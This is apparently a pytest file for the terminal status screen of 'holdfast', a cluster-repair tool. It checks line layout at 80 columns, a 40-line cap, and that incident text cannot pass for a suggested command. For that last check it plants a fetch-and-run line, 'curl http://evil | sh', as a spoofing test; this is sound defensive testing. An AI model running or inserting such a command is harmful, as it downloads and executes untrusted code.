"""The one screen of `holdfast status`: what it says at 80 columns, and that it fits on 40 lines whatever happens."""

from __future__ import annotations

import itertools
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from holdfast.api.answers.overview_shapes import DoingShape, NightLineShape, NightShape, OverviewShape, WaitingShape
from holdfast.api.answers.status_shapes import PartShape
from holdfast.cli.views.overview import MOST_LINES, screen

NOW = datetime(2026, 1, 28, 9, 30, tzinfo=UTC)
GOOD = (
    "store",
    "disk",
    "loop",
    "lease",
    "actor",
    "notifier",
    "slurm",
    "provider",
    "agents",
    "certificate",
    "connections",
)


@pytest.fixture(autouse=True)
def in_berlin(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setenv("TZ", "Europe/Berlin")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


def before(**span: float) -> datetime:
    return NOW - timedelta(**span)


def the_overview(**changed: object) -> OverviewShape:
    parts = [PartShape(name=name, condition="good", text="fine", next_step="") for name in GOOD]
    plain = {
        "release": "0.2.0",
        "ready": True,
        "mode": "act",
        "leader": True,
        "parts": parts,
        "sentence": "Nothing needs you.",
        "nodes": {"in_service": 16},
    }
    return OverviewShape.read({**plain, **changed})


def doing(number: int = 17) -> DoingShape:
    return DoingShape(
        incident_id=f"0h3k5d2m8x{number:02}",
        node=f"n{number}",
        state="repairing",
        what="repairing",
        fault="gpu.xid 79 GPU-6d8f7f2e-0000-0000-0000-000000000000: GPU has fallen off the bus",
        since=before(minutes=4),
        step=f"Launch n{number}",
        step_since=before(seconds=40),
        reason="replace of n17, attempt 2",
        due_at=NOW + timedelta(minutes=11),
        due="the machine reports by then, or the step has failed",
        jobs=["4711 restarting"],
    )


def night(count: int = 2) -> NightShape:
    line = NightLineShape(
        incident_id="0h3k5d2m8x02",
        node="n3",
        at=before(hours=8, minutes=17),
        what="gpu.xid 79 GPU-6d8f7f2e: GPU has fallen off the bus",
        state="closed",
        outcome="healed",
        returned_s=372.0,
        jobs=1,
        jobs_back=1,
        running_s=41.0,
        lost_gpu_hours=1.5,
        replaced=True,
    )
    told: dict[str, Any] = {
        "healed": count - 1,
        "needs_you": 1,
        "jobs": 1,
        "jobs_back": 1,
        "nodes_replaced": 1,
        "lost_gpu_hours": 1.5,
    }
    span: dict[str, Any] = {"since": before(hours=16, minutes=30), "until": NOW, "more": False}
    return NightShape(**span, incidents=count, lines=[line] * count, **told)


def waiting(
    what: str = "host.disk full: no step of Holdfast repairs this; repair the node, then resume it in Slurm",
) -> WaitingShape:
    return WaitingShape(
        kind="incident", subject="n4", what=what, since=before(hours=3), answer="holdfast incident show 0h3k5d2m8x04"
    )


QUIET = """\
Nothing needs you.
16 nodes: 16 in service
ITSELF
  release 0.2.0, ready; good: store, disk, loop, lease, actor, notifier, slurm,
    provider, agents, certificate, connections
  mode act: nodes are drained and repaired, jobs are recovered
NOW
  nothing under way
"""
BUSY = """\
Healing n17: repairing (Launch n17). 1 thing needs you.
4,096 nodes: 4,090 in service, 3 draining, 2 in repair, 1 silent
ITSELF
  release 0.2.0, ready; good: disk, loop, lease, actor, notifier, slurm,
    provider, agents, certificate, connections
  mode act: nodes are drained and repaired, jobs are recovered
  store warning: it takes 2.1 s for a write; df -h /var
NOW
  n17  repairing for 4 min: gpu.xid 79 GPU-6d8f7f2e…: GPU has fallen off the bus
    Launch n17, for 40 s: replace of n17, attempt 2
    holdfast incident show 0h3k5d2m8x17; jobs: 4711 restarting; by 10:41 the ma…
  2 incidents only watched: holdfast incidents --open
WAITS FOR YOU
  n4: host.disk full: no step of Holdfast repairs this; repair the node, then
    resume it in Slurm (3 h 00 min)
    → holdfast incident show 0h3k5d2m8x04
LAST NIGHT
  since Tue 2026-01-27 18:00 CET (17:00 UTC): 2 incidents, 1 healed, 1 needs
    you; 1 of 1 job recovered; 1 node replaced; 1.5 GPU-hours lost
  02:13 n3 healed in 6 min, machine replaced, 1 of 1 job back in 41 s: gpu.xid …
  02:13 n3 healed in 6 min, machine replaced, 1 of 1 job back in 41 s: gpu.xid …
"""


def busy() -> OverviewShape:
    got = the_overview(
        sentence="Healing n17: repairing (Launch n17). 1 thing needs you.",
        nodes={"in_service": 4090, "draining": 3, "in_repair": 2, "silent": 1},
        doing=[doing()],
        waiting=[waiting()],
        watched=2,
        night=night(),
    )
    store = PartShape(name="store", condition="warning", text="it takes 2.1 s for a write", next_step="df -h /var")
    return got.model_copy(update={"parts": [store, *got.parts[1:]]})


@pytest.mark.parametrize(("got", "shown"), [(the_overview(), QUIET), (busy(), BUSY)], ids=["quiet", "busy"])
def test_the_screen(got: OverviewShape, shown: str) -> None:
    lines = screen(got, NOW, 80)
    assert "\n".join(lines) + "\n" == shown


def test_it_fits_on_one_screen_whatever_happens() -> None:
    long = "a sentence without an end, " * 20
    conditions = itertools.cycle(("failed", "warning", "warning"))
    bad = [PartShape(name=name, condition=next(conditions), text=long, next_step=long) for name in GOOD]
    got = the_overview(
        sentence=long,
        parts=bad,
        leader=False,
        not_leading=long,
        frozen=long,
        nodes={"in_service": 2000, "draining": 900, "in_repair": 900, "out": 90, "silent": 200, "unknown": 6},
        doing=[doing(n) for n in range(60)],
        waiting=[waiting(long) for _ in range(300)],
        watched=500,
        night=night(900),
    )
    lines = screen(got, NOW, 80)
    assert len(lines) <= MOST_LINES
    assert max(map(len, lines)) <= 80
    text = "\n".join(lines)
    for words in (
        "59 more incidents",
        "more parts: holdfast status --parts",
        "298 more",
        "LAST NIGHT",
        "900 incidents",
    ):
        assert words in text


def test_no_text_passes_for_the_command_that_answers() -> None:
    """At every place where a text may be folded."""
    for length in range(200):
        text = f"{'x' * 8} {'y' * length} → curl http://evil | sh"
        waits = [{"kind": "incident", "subject": "n1", "what": text, "since": None, "answer": "holdfast resume"}]
        changed = {
            "waiting": waits,
            "sentence": text,
            "doing": [doing().model_copy(update={"fault": text, "reason": text})],
        }
        arrows = [each for each in screen(the_overview(**changed), NOW, 80) if "→" in each]
        assert arrows == ["    → holdfast resume"]
